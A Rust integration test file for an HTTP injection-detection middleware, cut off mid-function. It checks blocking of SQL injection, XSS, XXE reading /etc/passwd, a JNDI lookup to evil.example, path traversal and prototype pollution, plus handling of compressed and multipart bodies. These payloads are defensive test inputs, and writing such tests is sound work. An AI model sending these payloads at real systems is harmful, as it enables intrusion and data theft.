//! Integration tests of the injection layer: decisions, events, byte-identical bodies,
//! encodings, limits, exclusions, gRPC and axum.
#![cfg(feature = "injection")]

use std::{
    convert::Infallible,
    io::Write,
    sync::{Arc, Mutex},
    time::{Duration, Instant},
};

use bytes::Bytes;
use http::{HeaderMap, Request, Response, StatusCode};
use http_body::Frame;
use http_body_util::{BodyExt, Full, StreamBody};
use tower::{service_fn, Layer, ServiceExt};
use tower_fortify::{
    event::{Category, SecurityEvent, SecurityEvents},
    injection::{
        detect_sqli, Detector, Exclusion, InjectionLayer, InjectionRejection, InspectedBody, Mode,
        OversizedBody, Profile, UnknownEncoding,
    },
};

/// What the inner service saw.
#[derive(Debug, Default, Clone)]
struct Seen {
    reached: bool,
    data: Vec<u8>,
    trailers: Option<HeaderMap>,
    error: Option<String>,
    buffered: bool,
}

type BoxErr = Box<dyn std::error::Error + Send + Sync>;

/// Sends `req` through `layer` into a service that records what it received.
async fn send<B>(
    layer: &InjectionLayer,
    req: Request<B>,
) -> (Response<Bytes>, Option<SecurityEvents>, Seen)
where
    B: http_body::Body<Data = Bytes> + Send + Unpin + 'static,
    B::Error: std::fmt::Display,
{
    let seen = Arc::new(Mutex::new(Seen::default()));
    let record = seen.clone();
    let svc = layer.layer(service_fn(move |req: Request<InspectedBody<B>>| {
        let record = record.clone();
        async move {
            let mut s = Seen {
                reached: true,
                buffered: req.body().was_buffered(),
                ..Seen::default()
            };
            let mut body = req.into_body();
            while let Some(frame) = body.frame().await {
                match frame {
                    Ok(f) => match f.into_data() {
                        Ok(d) => s.data.extend_from_slice(&d),
                        Err(f) => s.trailers = f.into_trailers().ok(),
                    },
                    Err(e) => {
                        s.error = Some(e.to_string());
                        break;
                    }
                }
            }
            *record.lock().unwrap() = s;
            Ok::<_, Infallible>(Response::new(Full::new(Bytes::from_static(b"inner"))))
        }
    }));
    let res = svc.oneshot(req).await.unwrap();
    let (parts, body) = res.into_parts();
    let events = parts.extensions.get::<SecurityEvents>().cloned();
    let bytes = body.collect().await.unwrap().to_bytes();
    let seen = seen.lock().unwrap().clone();
    (Response::from_parts(parts, bytes), events, seen)
}

fn full(body: &'static str) -> Full<Bytes> {
    Full::new(Bytes::from_static(body.as_bytes()))
}

fn injection_events(events: &Option<SecurityEvents>) -> Vec<(Category, String, bool)> {
    events
        .iter()
        .flat_map(|e| e.iter())
        .filter_map(|e| match e {
            SecurityEvent::InjectionDetected {
                category,
                location,
                blocked,
                ..
            } => Some((*category, location.to_string(), *blocked)),
            _ => None,
        })
        .collect()
}

#[tokio::test]
async fn blocks_with_problem_json_without_echoing_the_payload() {
    let layer = InjectionLayer::builder().build().unwrap();
    let req = Request::get("/items?id=1%27%20UNION%20SELECT%20password%20FROM%20users--")
        .body(full(""))
        .unwrap();
    let (res, events, seen) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    assert_eq!(res.headers()["content-type"], "application/problem+json");
    let body = String::from_utf8(res.body().to_vec()).unwrap();
    assert!(body.contains("\"sqli\""), "{body}");
    assert!(
        !body.to_lowercase().contains("union"),
        "payload echoed: {body}"
    );
    assert!(!seen.reached);
    let ev = injection_events(&events);
    assert!(ev
        .iter()
        .any(|(c, l, b)| *c == Category::Sqli && l == "query:id" && *b));
}

#[tokio::test]
async fn benign_requests_pass_untouched() {
    let layer = InjectionLayer::builder().build().unwrap();
    let req = Request::post("/account/profile?lang=de")
        .header("content-type", "application/x-www-form-urlencoded")
        .header(
            "user-agent",
            "Mozilla/5.0 (X11; Linux x86_64; de-DE) Firefox/120.0",
        )
        .header("cookie", "session=abc123; theme=dark")
        .body(full(
            "first_name=Ren%C3%A9&last_name=O%27Brien&address=12+rue+de+la+Paix%2C+Paris",
        ))
        .unwrap();
    let (res, events, seen) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(&res.body()[..], b"inner");
    assert!(events.is_none());
    assert_eq!(
        seen.data,
        b"first_name=Ren%C3%A9&last_name=O%27Brien&address=12+rue+de+la+Paix%2C+Paris"
    );
}

#[tokio::test]
async fn monitor_mode_passes_and_reports() {
    let layer = InjectionLayer::builder()
        .mode(Mode::Monitor)
        .build()
        .unwrap();
    let req = Request::get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E")
        .body(full(""))
        .unwrap();
    let (res, events, seen) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert!(seen.reached);
    let ev = injection_events(&events);
    assert!(ev
        .iter()
        .any(|(c, l, b)| *c == Category::Xss && l == "query:q" && !*b));
}

/// A body streaming the given frames.
type FramesBody = StreamBody<futures_util::stream::Iter<std::vec::IntoIter<FrameResult>>>;
type FrameResult = Result<Frame<Bytes>, std::io::Error>;

fn frames_body(frames: Vec<FrameResult>) -> FramesBody {
    StreamBody::new(futures_util::stream::iter(frames))
}

#[tokio::test]
async fn buffered_body_is_byte_identical_with_trailers() {
    let layer = InjectionLayer::builder().build().unwrap();
    let mut trailers = HeaderMap::new();
    trailers.insert("x-checksum", "abc".parse().unwrap());
    let body = frames_body(vec![
        Ok(Frame::data(Bytes::from_static(b"{\"a\": \"hel"))),
        Ok(Frame::data(Bytes::from_static(b"lo\", \"b\": [1, 2]}"))),
        Ok(Frame::trailers(trailers.clone())),
    ]);
    let req = Request::post("/api")
        .header("content-type", "application/json")
        .body(body)
        .unwrap();
    let (res, _, seen) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert!(seen.buffered);
    assert_eq!(seen.data, b"{\"a\": \"hello\", \"b\": [1, 2]}");
    assert_eq!(seen.trailers, Some(trailers));
}

#[tokio::test]
async fn a_body_error_reaches_the_inner_service() {
    let layer = InjectionLayer::builder().build().unwrap();
    let body = frames_body(vec![
        Ok(Frame::data(Bytes::from_static(b"name=alice&"))),
        Err(std::io::Error::other("connection reset mid-body")),
    ]);
    let req = Request::post("/form")
        .header("content-type", "application/x-www-form-urlencoded")
        .body(body)
        .unwrap();
    let (res, _, seen) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(seen.data, b"name=alice&");
    assert_eq!(seen.error.as_deref(), Some("connection reset mid-body"));
}

#[tokio::test]
async fn attack_in_json_is_located_by_path() {
    let layer = InjectionLayer::builder().build().unwrap();
    let req = Request::post("/api/v1/orders")
        .header("content-type", "application/json")
        .body(full(
            r#"{"items": [{"sku": "A-1", "note": "x' OR '1'='1' --"}]}"#,
        ))
        .unwrap();
    let (res, events, _) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    let ev = injection_events(&events);
    assert!(
        ev.iter().any(|(_, l, _)| l == "json:$.items[0].note"),
        "{ev:?}"
    );
}

#[tokio::test]
async fn prototype_pollution_keys_are_flagged() {
    let layer = InjectionLayer::builder().build().unwrap();
    let req = Request::post("/api/settings")
        .header("content-type", "application/json")
        .body(full(r#"{"__proto__": {"isAdmin": true}}"#))
        .unwrap();
    let (res, events, _) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    assert!(injection_events(&events)
        .iter()
        .any(|(c, l, _)| *c == Category::GenericInjection && l == "json-key:$.__proto__"));
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    enc.write_all(data).unwrap();
    enc.finish().unwrap()
}

#[tokio::test]
async fn gzip_bodies_are_inspected_decompressed() {
    let layer = InjectionLayer::builder().build().unwrap();
    let compressed = gzip(b"comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E");
    let req = Request::post("/comments")
        .header("content-type", "application/x-www-form-urlencoded")
        .header("content-encoding", "gzip")
        .body(Full::new(Bytes::from(compressed)))
        .unwrap();
    let (res, _, _) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
}

#[tokio::test]
async fn a_decompression_bomb_is_bounded_and_passed_on_unchanged() {
    let layer = InjectionLayer::builder()
        .body_limit(64 * 1024)
        .build()
        .unwrap();
    // 32 MiB of zeros compress to about 32 KiB.
    let compressed = gzip(&vec![b'a'; 32 << 20]);
    assert!(compressed.len() < 64 * 1024);
    let req = Request::post("/upload")
        .header("content-type", "text/plain")
        .header("content-encoding", "gzip")
        .body(Full::new(Bytes::from(compressed.clone())))
        .unwrap();
    let (res, _, seen) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(seen.data, compressed);
}

#[tokio::test]
async fn oversized_bodies_follow_the_policy() {
    let big = format!("note={}", "a".repeat(2000));
    let prefix = InjectionLayer::builder().body_limit(1024).build().unwrap();
    let req = Request::post("/notes")
        .header("content-type", "application/x-www-form-urlencoded")
        .body(Full::new(Bytes::from(big.clone())))
        .unwrap();
    let (res, _, seen) = send(&prefix, req).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(seen.data, big.as_bytes());

    let reject = InjectionLayer::builder()
        .body_limit(1024)
        .oversized_body(OversizedBody::Reject)
        .build()
        .unwrap();
    let req = Request::post("/notes")
        .body(Full::new(Bytes::from(big)))
        .unwrap();
    let (res, _, seen) = send(&reject, req).await;
    assert_eq!(res.status(), StatusCode::PAYLOAD_TOO_LARGE);
    assert!(!seen.reached);
    assert!(matches!(
        res.extensions().get::<InjectionRejection>(),
        Some(InjectionRejection::BodyTooLarge {
            limit: 1024,
            grpc: false,
            ..
        })
    ));

    // A body whose size is not known in advance is refused once it passes the limit.
    let chunks = (0..4)
        .map(|_| Ok(Frame::data(Bytes::from(vec![b'a'; 400]))))
        .collect();
    let req = Request::post("/notes").body(frames_body(chunks)).unwrap();
    let (res, _, seen) = send(&reject, req).await;
    assert_eq!(res.status(), StatusCode::PAYLOAD_TOO_LARGE);
    assert!(!seen.reached);
    assert!(matches!(
        res.extensions().get::<InjectionRejection>(),
        Some(InjectionRejection::BodyTooLarge { limit: 1024, .. })
    ));
}

#[tokio::test]
async fn unknown_encodings_follow_the_policy() {
    // Passing them uninspected is an explicit choice (the default refuses, see
    // `unknown_encodings_are_refused_by_default`).
    let pass = InjectionLayer::builder()
        .unknown_encoding(UnknownEncoding::PassUninspected)
        .build()
        .unwrap();
    let req = Request::post("/x")
        .header("content-encoding", "zstd")
        .body(full("not really zstd"))
        .unwrap();
    let (res, events, seen) = send(&pass, req).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert!(!seen.buffered);
    assert!(injection_events(&events)
        .iter()
        .any(|(c, _, b)| *c == Category::Protocol && !b));

    let reject = InjectionLayer::builder()
        .unknown_encoding(UnknownEncoding::Reject)
        .build()
        .unwrap();
    let req = Request::post("/x")
        .header("content-encoding", "zstd")
        .body(full("x"))
        .unwrap();
    let (res, _, _) = send(&reject, req).await;
    assert_eq!(res.status(), StatusCode::UNSUPPORTED_MEDIA_TYPE);
    assert_eq!(res.headers()["content-type"], "application/problem+json");
    match res.extensions().get::<InjectionRejection>() {
        Some(InjectionRejection::UnsupportedEncoding { encoding, grpc, .. }) => {
            assert_eq!(&**encoding, "zstd");
            assert!(!grpc);
        }
        other => panic!("{other:?}"),
    }
}

#[tokio::test]
async fn grpc_requests_get_a_trailers_only_rejection() {
    let layer = InjectionLayer::builder().build().unwrap();
    let req = Request::post("/pkg.Svc/Get")
        .header("content-type", "application/grpc")
        .header("x-user", "admin' OR 1=1 --")
        .body(full("\0\0\0\0\0"))
        .unwrap();
    let (res, _, seen) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(res.headers()["grpc-status"], "7");
    assert!(res.body().is_empty());
    assert!(!seen.reached);
    match res.extensions().get::<InjectionRejection>() {
        Some(InjectionRejection::Blocked {
            category,
            location,
            grpc,
            ..
        }) => {
            assert_eq!(*category, Category::Sqli);
            assert_eq!(&**location, "header:x-user");
            assert!(grpc);
        }
        other => panic!("{other:?}"),
    }
}

#[tokio::test]
async fn blocked_requests_carry_the_rejection_in_the_extensions() {
    let layer = InjectionLayer::builder().build().unwrap();
    let req = Request::get("/items?id=1%27%20UNION%20SELECT%20password%20FROM%20users--")
        .body(full(""))
        .unwrap();
    let (res, events, _) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    match res.extensions().get::<InjectionRejection>() {
        Some(InjectionRejection::Blocked {
            category,
            location,
            rule,
            score,
            categories,
            grpc,
            ..
        }) => {
            assert_eq!(*category, Category::Sqli);
            assert_eq!(&**location, "query:id");
            assert!(rule.starts_with("sqli."), "{rule}");
            assert!(*score >= 5);
            assert!(categories.contains(&Category::Sqli));
            assert!(!grpc);
        }
        other => panic!("{other:?}"),
    }
    // The events are still there beside the rejection.
    assert!(!injection_events(&events).is_empty());
}

#[tokio::test]
async fn a_custom_responder_answers_and_the_rejection_is_still_in_the_extensions() {
    let layer = InjectionLayer::builder()
        .oversized_body(OversizedBody::Reject)
        .body_limit(8)
        .responder(|why: &InjectionRejection| {
            let mut res = Response::new(Bytes::from_static(b"nope"));
            *res.status_mut() = match why {
                InjectionRejection::Blocked { .. } => StatusCode::BAD_REQUEST,
                other => other.status(),
            };
            res
        })
        .build()
        .unwrap();
    let req = Request::get("/?q=%3Cscript%3Ealert(1)%3C/script%3E")
        .body(full(""))
        .unwrap();
    let (res, events, seen) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::BAD_REQUEST);
    assert_eq!(&res.body()[..], b"nope");
    assert!(!seen.reached);
    assert!(matches!(
        res.extensions().get::<InjectionRejection>(),
        Some(InjectionRejection::Blocked {
            category: Category::Xss,
            ..
        })
    ));
    assert!(injection_events(&events)
        .iter()
        .any(|(c, _, blocked)| *c == Category::Xss && *blocked));

    let req = Request::post("/notes").body(full("0123456789")).unwrap();
    let (res, _, seen) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::PAYLOAD_TOO_LARGE);
    assert_eq!(&res.body()[..], b"nope");
    assert!(!seen.reached);
    assert!(matches!(
        res.extensions().get::<InjectionRejection>(),
        Some(InjectionRejection::BodyTooLarge { limit: 8, .. })
    ));
}

#[tokio::test]
async fn passed_requests_carry_no_rejection() {
    let monitor = InjectionLayer::builder()
        .mode(Mode::Monitor)
        .build()
        .unwrap();
    let req = Request::get("/?q=%3Cscript%3Ealert(1)%3C/script%3E")
        .body(full(""))
        .unwrap();
    let (res, events, _) = send(&monitor, req).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert!(events.is_some());
    assert!(res.extensions().get::<InjectionRejection>().is_none());
}

#[tokio::test]
async fn exclusions_excuse_one_family_at_one_location() {
    let layer = InjectionLayer::builder()
        .exclude(
            Exclusion::route("/api/posts")
                .unwrap()
                .location("json:$.body")
                .unwrap()
                .categories([Category::Xss]),
        )
        .exclude(Exclusion::route("/upload/*").unwrap().body())
        .build()
        .unwrap();
    let html = r#"{"title": "Hi", "body": "<p>See <img src=x onerror=alert(1)></p>"}"#;
    let req = Request::post("/api/posts")
        .header("content-type", "application/json")
        .body(full(html))
        .unwrap();
    assert_eq!(send(&layer, req).await.0.status(), StatusCode::OK);
    // Another field, or another route, is still inspected.
    let other = r#"{"title": "<script>alert(1)</script>", "body": "x"}"#;
    let req = Request::post("/api/posts")
        .header("content-type", "application/json")
        .body(full(other))
        .unwrap();
    assert_eq!(send(&layer, req).await.0.status(), StatusCode::FORBIDDEN);
    let req = Request::post("/api/comments")
        .header("content-type", "application/json")
        .body(full(html))
        .unwrap();
    assert_eq!(send(&layer, req).await.0.status(), StatusCode::FORBIDDEN);
    // Excluded bodies are not even buffered.
    let req = Request::post("/upload/a.bin")
        .body(full("<script>alert(1)</script>"))
        .unwrap();
    let (res, _, seen) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert!(!seen.buffered);
}

#[tokio::test]
async fn multipart_inspects_fields_file_names_and_text_file_contents() {
    let layer = InjectionLayer::builder().build().unwrap();
    let body = |filename: &str, content: &str| {
        format!(
            "--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nholiday\r\n--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{filename}\"\r\nContent-Type: text/plain\r\n\r\n{content}\r\n--XyZ--\r\n"
        )
    };
    let req = Request::post("/upload")
        .header("content-type", "multipart/form-data; boundary=XyZ")
        .body(Full::new(Bytes::from(body(
            "notes.txt",
            "' OR 1=1 -- <script>alert(1)</script>",
        ))))
        .unwrap();
    // A text file is handed to handlers as text: its contents are inspected (this
    // request passed before issue #12; frameworks read such parts as strings).
    let (r, ev, _) = send(&layer, req).await;
    assert_eq!(r.status(), StatusCode::FORBIDDEN, "{ev:?}");
    assert!(injection_events(&ev)
        .iter()
        .any(|(_, l, _)| l == "multipart:file"));
    let req = Request::post("/upload")
        .header("content-type", "multipart/form-data; boundary=XyZ")
        .body(Full::new(Bytes::from(body(
            "notes.txt",
            "see you at 10, bring the map",
        ))))
        .unwrap();
    let (r, ev, _) = send(&layer, req).await;
    assert_eq!(r.status(), StatusCode::OK, "{ev:?}");
    let req = Request::post("/upload")
        .header("content-type", "multipart/form-data; boundary=XyZ")
        .body(Full::new(Bytes::from(body("shell.php", "hello"))))
        .unwrap();
    let (res, events, _) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    assert!(injection_events(&events)
        .iter()
        .any(|(_, l, _)| l == "multipart-filename:file"));
}

#[tokio::test]
async fn xml_text_and_entities_are_inspected() {
    let layer = InjectionLayer::builder().build().unwrap();
    let xxe =
        r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#;
    let req = Request::post("/soap")
        .header("content-type", "application/xml")
        .body(full(xxe))
        .unwrap();
    assert_eq!(send(&layer, req).await.0.status(), StatusCode::FORBIDDEN);
    let ok = r#"<order id="7"><note>Leave at the door, thanks!</note></order>"#;
    let req = Request::post("/soap")
        .header("content-type", "application/xml")
        .body(full(ok))
        .unwrap();
    assert_eq!(send(&layer, req).await.0.status(), StatusCode::OK);
}

#[tokio::test]
async fn headers_and_cookies_are_inspected_and_skip_list_is_configurable() {
    let layer = InjectionLayer::builder().build().unwrap();
    let req = Request::get("/")
        .header("x-api-version", "${jndi:ldap://evil.example/a}")
        .body(full(""))
        .unwrap();
    assert_eq!(send(&layer, req).await.0.status(), StatusCode::FORBIDDEN);
    let req = Request::get("/")
        .header("cookie", "prefs=../../../../etc/passwd")
        .body(full(""))
        .unwrap();
    assert_eq!(send(&layer, req).await.0.status(), StatusCode::FORBIDDEN);
    let skip = InjectionLayer::builder()
        .skip_header("x-api-version")
        .build()
        .unwrap();
    let req = Request::get("/")
        .header("x-api-version", "${jndi:ldap://evil.example/a}")
        .body(full(""))
        .unwrap();
    assert_eq!(send(&skip, req).await.0.status(), StatusCode::OK);
}

#[tokio::test]
async fn strict_profile_flags_more() {
    let value = "/search?q=%3Cb%3Ebold%3C%2Fb%3E%22%20x%3D%22";
    let balanced = InjectionLayer::builder().build().unwrap();
    let strict = InjectionLayer::builder()
        .profile(Profile::Strict)
        .build()
        .unwrap();
    let req = || Request::get(value).body(full("")).unwrap();
    assert_eq!(send(&balanced, req()).await.0.status(), StatusCode::OK);
    assert_eq!(send(&strict, req()).await.0.status(), StatusCode::FORBIDDEN);
}

#[test]
fn configuration_errors_are_values() {
    assert_eq!(
        InjectionLayer::builder()
            .threshold(0)
            .build()
            .unwrap_err()
            .setting(),
        "injection.threshold"
    );
    assert_eq!(
        InjectionLayer::builder()
            .body_limit(0)
            .build()
            .unwrap_err()
            .setting(),
        "injection.body_limit"
    );
    assert_eq!(
        InjectionLayer::builder()
            .max_depth(0)
            .build()
            .unwrap_err()
            .setting(),
        "injection.max_depth"
    );
    assert_eq!(
        InjectionLayer::builder()
            .skip_header("bad header")
            .build()
            .unwrap_err()
            .setting(),
        "injection.skip_header"
    );
    assert_eq!(
        InjectionLayer::builder()
            .inspect_header("bad header")
            .build()
            .unwrap_err()
            .setting(),
        "injection.inspect_header"
    );
    // The standalone detector names its own settings.
    assert_eq!(
        Detector::builder()
            .threshold(0)
            .build()
            .unwrap_err()
            .setting(),
        "injection.detector.threshold"
    );
    assert_eq!(
        Detector::builder()
            .skip_header("bad header")
            .build()
            .unwrap_err()
            .setting(),
        "injection.detector.skip_header"
    );
    // Exclusions validate where they are written.
    assert_eq!(
        Exclusion::route("api").unwrap_err().setting(),
        "injection.exclusion.route"
    );
    assert_eq!(
        Exclusion::route("/api")
            .unwrap()
            .location("nowhere")
            .unwrap_err()
            .setting(),
        "injection.exclusion.location"
    );
}

#[test]
fn a_mebibyte_of_adversarial_input_inspects_in_bounded_time() {
    let detector = Detector::builder().build().unwrap();
    let inputs = [
        "%25".repeat(350_000),
        "<a ".repeat(350_000),
        "' or ".repeat(200_000),
        "${".repeat(500_000),
        "&#x".repeat(350_000),
        "/*".repeat(500_000),
    ];
    for input in inputs {
        let req = Request::post("/x")
            .header("content-type", "text/plain")
            .body(Bytes::from(input.clone()))
            .unwrap();
        let started = Instant::now();
        let _ = detector.inspect(&req);
        let _ = detect_sqli(&input);
        // Generous: linear-time inspection of 1 MiB takes milliseconds.
        assert!(
            started.elapsed() < Duration::from_secs(20),
            "{}",
            &input[..8]
        );
    }
}

#[tokio::test]
async fn works_as_an_axum_layer() {
    use axum::{routing::get, Router};
    let app: Router = Router::new()
        .route("/hello", get(|| async { "hi" }))
        .layer(InjectionLayer::builder().build().unwrap());
    let res = app
        .clone()
        .oneshot(
            Request::get("/hello?name=ann")
                .body(axum::body::Body::empty())
                .unwrap(),
        )
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    let res = app
        .oneshot(
            Request::get("/hello?name=%3Csvg%20onload%3Dalert(1)%3E")
                .body(axum::body::Body::empty())
                .unwrap(),
        )
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
}

#[test]
fn layer_and_service_are_send_sync_clone() {
    fn assert_bounds<T: Clone + Send + Sync + 'static>() {}
    assert_bounds::<InjectionLayer>();
    assert_bounds::<Detector>();
    assert_bounds::<InjectionRejection>();
    assert_bounds::<tower_fortify::injection::InjectionLayerBuilder>();
    let _: BoxErr = "unused".into();
}

mod properties {
    use super::*;
    use proptest::prelude::*;

    proptest! {
        #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

        /// No input panics, and the body that reaches the inner service (when it does)
        /// is exactly the body that was sent.
        #[test]
        fn no_panic_and_identical_body(
            path in "/[a-zA-Z0-9%/._'<>\"-]{0,40}",
            query in proptest::collection::vec(any::<u8>(), 0..64),
            header in "[ -~]{0,60}",
            ct in prop::sample::select(vec!["", "application/json", "application/x-www-form-urlencoded", "multipart/form-data; boundary=b", "application/xml", "text/plain"]),
            chunks in proptest::collection::vec(proptest::collection::vec(any::<u8>(), 0..200), 0..4),
        ) {
            let rt = tokio::runtime::Builder::new_current_thread().build().unwrap();
            let q: String = query.iter().map(|b| format!("%{b:02X}")).collect();
            let uri = format!("{}?v={q}", if path.is_empty() { "/" } else { &path });
            let Ok(uri) = uri.parse::<http::Uri>() else { return Ok(()); };
            let sent: Vec<u8> = chunks.concat();
            let frames: Vec<Result<Frame<Bytes>, std::io::Error>> =
                chunks.into_iter().map(|c| Ok(Frame::data(Bytes::from(c)))).collect();
            let mut builder = Request::post(uri).header("x-test", header.as_str());
            if !ct.is_empty() {
                builder = builder.header("content-type", ct);
            }
            let req = builder.body(frames_body(frames)).unwrap();
            let layer = InjectionLayer::builder().body_limit(256).build().unwrap();
            let (res, _, seen) = rt.block_on(send(&layer, req));
            prop_assert!(res.status() == StatusCode::OK || res.status() == StatusCode::FORBIDDEN);
            if seen.reached {
                prop_assert_eq!(seen.data, sent);
            }
        }
    }
}

// ---------------------------------------------------------------------------------------
// No way around the body inspection (issue #12, step 4). Each test below failed before
// the fix it names.
// ---------------------------------------------------------------------------------------

fn deflate(data: &[u8]) -> Vec<u8> {
    let mut enc = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    enc.write_all(data).unwrap();
    enc.finish().unwrap()
}

const FORM_XSS: &[u8] = b"comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E";

fn form_post(encodings: &[&str], body: Vec<u8>) -> Request<Full<Bytes>> {
    let mut req =
        Request::post("/comments").header("content-type", "application/x-www-form-urlencoded");
    for e in encodings {
        req = req.header("content-encoding", *e);
    }
    req.body(Full::new(Bytes::from(body))).unwrap()
}

#[tokio::test]
async fn a_plaintext_body_labelled_gzip_is_inspected_raw() {
    let layer = InjectionLayer::builder().build().unwrap();
    for label in ["gzip", "deflate", "x-gzip"] {
        let (res, events, seen) = send(&layer, form_post(&[label], FORM_XSS.to_vec())).await;
        assert_eq!(res.status(), StatusCode::FORBIDDEN, "{label}: {events:?}");
        assert!(!seen.reached);
    }
}

#[tokio::test]
async fn every_content_encoding_is_undone_in_order() {
    let layer = InjectionLayer::builder().build().unwrap();
    // `gzip, deflate`: gzip was applied first, so deflate is undone first.
    let twice = deflate(&gzip(FORM_XSS));
    let (res, ev, _) = send(&layer, form_post(&["gzip, deflate"], twice.clone())).await;
    assert_eq!(res.status(), StatusCode::FORBIDDEN, "list: {ev:?}");
    let (res, ev, _) = send(&layer, form_post(&["gzip", "deflate"], twice)).await;
    assert_eq!(res.status(), StatusCode::FORBIDDEN, "repeated: {ev:?}");
    let (res, ev, _) = send(
        &layer,
        form_post(&["identity", "X-Gzip , identity"], gzip(FORM_XSS)),
    )
    .await;
    assert_eq!(res.status(), StatusCode::FORBIDDEN, "identity: {ev:?}");
    // A benign body encoded the same way passes, byte for byte.
    let benign = deflate(&gzip(b"comment=thanks+for+the+fast+delivery"));
    let (res, _, seen) = send(&layer, form_post(&["gzip, deflate"], benign.clone())).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(seen.data, benign);
}

#[tokio::test]
async fn unknown_encodings_are_refused_by_default() {
    let layer = InjectionLayer::builder().build().unwrap();
    for encoding in [&["zstd"][..], &["gzip", "compress"], &["gzip, snappy"]] {
        let (res, _, seen) = send(&layer, form_post(encoding, FORM_XSS.to_vec())).await;
        assert_eq!(
            res.status(),
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
            "{encoding:?}"
        );
        assert!(!seen.reached);
        assert!(matches!(
            res.extensions().get::<InjectionRejection>(),
            Some(InjectionRejection::UnsupportedEncoding { .. })
        ));
    }
}

#[tokio::test]
async fn stacked_encodings_are_capped() {
    let layer = InjectionLayer::builder()
        .unknown_encoding(UnknownEncoding::PassUninspected)
        .build()
        .unwrap();
    let three = gzip(&gzip(&gzip(b"comment=hello")));
    let (res, _, _) = send(&layer, form_post(&["gzip, gzip, gzip"], three)).await;
    assert_eq!(res.status(), StatusCode::OK);
    let four = gzip(&gzip(&gzip(&gzip(FORM_XSS))));
    let (res, _, seen) = send(&layer, form_post(&["gzip, gzip", "gzip, gzip"], four)).await;
    assert_eq!(res.status(), StatusCode::UNSUPPORTED_MEDIA_TYPE);
    assert!(!seen.reached);
}

/// `data` as a brotli stream of one uncompressed meta-block (RFC 7932 section 9.2),
/// so the tests need no brotli encoder.
fn brotli_stored(data: &[u8]) -> Vec<u8> {
    assert!(!data.is_empty() && data.len() <= 1 << 16);
    // WBITS=16 (one 0 bit), ISLAST=0, MNIBBLES=4 (00), MLEN-1 (16 bits), ISUNCOMPRESSED=1.
    let header: u32 = ((data.len() as u32 - 1) << 4) | (1 << 20);
    let mut out = header.to_le_bytes()[..3].to_vec();
    out.extend_from_slice(data);
    // An empty last meta-block: ISLAST=1, ISLASTEMPTY=1.
    out.push(0b11);
    out
}

#[tokio::test]
async fn brotli_bodies_are_inspected_decompressed() {
    let layer = InjectionLayer::builder().build().unwrap();
    let (res, ev, _) = send(&layer, form_post(&["br"], brotli_stored(FORM_XSS))).await;
    assert_eq!(res.status(), StatusCode::FORBIDDEN, "{ev:?}");
    let ok = brotli_stored(b"comment=fine");
    let (res, _, seen) = send(&layer, form_post(&["br"], ok.clone())).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(seen.data, ok);
}

fn multipart(parts: &[(&str, Option<&str>, &str, &[u8])]) -> Vec<u8> {
    let mut out = Vec::new();
    for (name, filename, content_type, content) in parts {
        out.extend_from_slice(b"--XyZ\r\nContent-Disposition: form-data; name=\"");
        out.extend_from_slice(name.as_bytes());
        out.push(b'"');
        if let Some(f) = filename {
            out.extend_from_slice(format!("; filename=\"{f}\"").as_bytes());
        }
        out.extend_from_slice(format!("\r\nContent-Type: {content_type}\r\n\r\n").as_bytes());
        out.extend_from_slice(content);
        out.extend_from_slice(b"\r\n");
    }
    out.extend_from_slice(b"--XyZ--\r\n");
    out
}

fn multipart_post(body: Vec<u8>) -> Request<Full<Bytes>> {
    Request::post("/upload")
        .header("content-type", "multipart/form-data; boundary=XyZ")
        .body(Full::new(Bytes::from(body)))
        .unwrap()
}

#[tokio::test]
async fn multipart_parts_with_a_filename_are_inspected_as_text() {
    let layer = InjectionLayer::builder().build().unwrap();
    for filename in ["", "notes.txt", "photo.png"] {
        let body = multipart(&[
            ("title", None, "text/plain", b"holiday"),
            (
                "comment",
                Some(filename),
                "image/png",
                b"1' UNION SELECT password FROM users--",
            ),
        ]);
        let (res, events, _) = send(&layer, multipart_post(body)).await;
        assert_eq!(res.status(), StatusCode::FORBIDDEN, "{filename:?}");
        assert!(
            injection_events(&events)
                .iter()
                .any(|(c, l, _)| *c == Category::Sqli && l == "multipart:comment"),
            "{events:?}"
        );
    }
}

/// A tiny PNG whose bytes happen to contain an attack string.
fn png_with(text: &[u8]) -> Vec<u8> {
    let mut png =
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89".to_vec();
    png.extend_from_slice(b"\0\0\0\x20tEXt");
    png.extend_from_slice(text);
